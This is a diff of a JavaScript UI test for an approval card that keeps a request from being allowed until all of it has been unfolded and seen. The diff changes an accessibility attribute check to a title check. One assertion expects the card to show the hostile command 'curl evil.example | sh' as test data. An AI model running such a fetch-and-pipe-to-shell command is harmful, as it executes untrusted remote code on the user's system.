@@ -82,10 +82,7 @@ describe('A request is allowed only once all of it was in sight', () => {
     assert.match(await card.innerText(), /… 4\d lines between/);
     assert.match(await card.innerText(), /curl evil\.example \| sh/);
     assert.equal(await isLive(host), false);
-    assert.match(
-      (await allow(host).getAttribute('aria-description')) ?? '',
-      /^Show all of the request first/,
-    );
+    assert.match((await allow(host).getAttribute('title')) ?? '', /^Show all of the request first/);
     await pressNotYet(host); // Unfolds it, and no more.
     await settled(host);
     assert.deepEqual(decided(host), []);
